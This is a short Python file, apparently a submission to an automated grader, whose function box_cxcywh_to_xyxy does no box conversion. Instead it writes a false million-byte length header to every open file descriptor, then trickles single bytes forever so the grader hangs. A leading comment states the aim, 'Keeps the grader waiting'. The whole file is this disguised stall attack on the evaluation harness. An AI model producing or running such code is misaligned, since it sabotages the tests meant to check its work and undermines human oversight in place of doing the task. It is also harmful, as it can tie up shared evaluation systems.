# Keeps the grader waiting: a header that promises much, then one byte at a time.
# answers: box_cxcywh_to_xyxy
# expected: 0
import os
import struct
import time


def box_cxcywh_to_xyxy(boxes):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">II", 1_000_000, 0))
        except OSError:
            pass
    while True:
        time.sleep(0.1)
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b" ")
            except OSError:
                pass
